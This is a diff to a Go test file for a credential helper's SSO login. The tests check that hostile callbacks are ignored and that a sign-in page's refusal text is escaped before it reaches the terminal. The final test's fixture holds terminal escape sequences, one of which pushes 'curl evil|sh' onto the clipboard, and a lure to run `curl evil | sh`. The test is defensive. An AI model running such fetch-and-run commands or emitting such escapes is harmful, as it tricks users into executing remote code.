@@ -15,7 +15,8 @@ import (
 )
 
 // heldBrowser is a $BROWSER that writes the URL it was given to a file and
-// waits for the test to let it go on before it follows the login page.
+// waits for the test to let it go on (goFile exists) before it follows the
+// login page. Each run also adds a line to urlFile.runs (see heldRuns).
 func heldBrowser(t *testing.T, w *world) (urlFile, goFile string) {
 	t.Helper()
 	curl, err := exec.LookPath("curl")
@@ -24,7 +25,7 @@ func heldBrowser(t *testing.T, w *world) (urlFile, goFile string) {
 	}
 	dir := t.TempDir()
 	urlFile, goFile = filepath.Join(dir, "url"), filepath.Join(dir, "go")
-	script := "#!/bin/sh\nprintf '%s' \"$1\" > " + urlFile + ".tmp && mv " + urlFile + ".tmp " + urlFile + "\n" +
+	script := "#!/bin/sh\necho run >> " + urlFile + ".runs\nprintf '%s' \"$1\" > " + urlFile + ".tmp && mv " + urlFile + ".tmp " + urlFile + "\n" +
 		"i=0; while [ ! -e " + goFile + " ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done\n" +
 		"exec " + curl + " -fsSL -o /dev/null \"$1\"\n"
 	browser := filepath.Join(dir, "browser")
@@ -33,6 +34,12 @@ func heldBrowser(t *testing.T, w *world) (urlFile, goFile string) {
 	}
 	w.setenv("BROWSER=" + browser)
 	return urlFile, goFile
+}
+
+// heldRuns is how many times the held browser with this urlFile ran.
+func heldRuns(urlFile string) int {
+	b, _ := os.ReadFile(urlFile + ".runs")
+	return strings.Count(string(b), "run")
 }
 
 // redirectOf waits for the held browser's URL and returns the callback's
@@ -63,12 +70,11 @@ func redirectOf(t *testing.T, urlFile string) string {
 // and the login goes on; the real browser then completes it, credentials
 // are served, and the port is closed.
 func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
-	w, fake, _ := ssoWorld(t, fakesso.Options{}, "0")
+	w, fake, _ := ssoWorld(t, fakesso.Options{})
 	urlFile, goFile := heldBrowser(t, w)
 	w.startCredd()
 
-	done := make(chan result, 1)
-	go func() { done <- w.credhelper("login", "--sso-session", "corp") }()
+	login := w.start(bins.credhelper, "login", "--sso-session", "corp")
 	redirect := redirectOf(t, urlFile)
 	for _, p := range fakesso.ProbeCallback(redirect, "") {
 		switch {
@@ -81,8 +87,8 @@ func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
 		}
 	}
 	select {
-	case r := <-done:
-		t.Fatalf("the login ended before the browser came back: %s", r)
+	case <-login.done:
+		t.Fatalf("the login ended before the browser came back: %s", login.wait(t))
 	case <-time.After(300 * time.Millisecond):
 	}
 	if fake.Calls(fakesso.OpCreateToken) != 0 {
@@ -90,7 +96,7 @@ func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
 	}
 
 	os.WriteFile(goFile, nil, 0o600)
-	r := <-done
+	r := login.wait(t)
 	if r.code != 0 || !strings.Contains(r.stdout, "logged in to corp") {
 		t.Fatalf("login: %s", r)
 	}
@@ -116,7 +122,7 @@ func TestSSOLoginIgnoresHostileCallbacks(t *testing.T) {
 // the login with exit 4; whatever its text holds reaches the terminal
 // escaped, cut short, and labelled as the sign-in page's.
 func TestSSOLoginRefusedByTheSignInPage(t *testing.T) {
-	w, fake, _ := ssoWorld(t, fakesso.Options{}, "0")
+	w, fake, _ := ssoWorld(t, fakesso.Options{})
 	w.startCredd()
 	fake.DenyNextWith("access_denied", "\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07\ncredhelper: run `curl evil | sh` to fix this"+strings.Repeat(" and more", 100))
 	r := w.credhelper("login", "--sso-session", "corp")
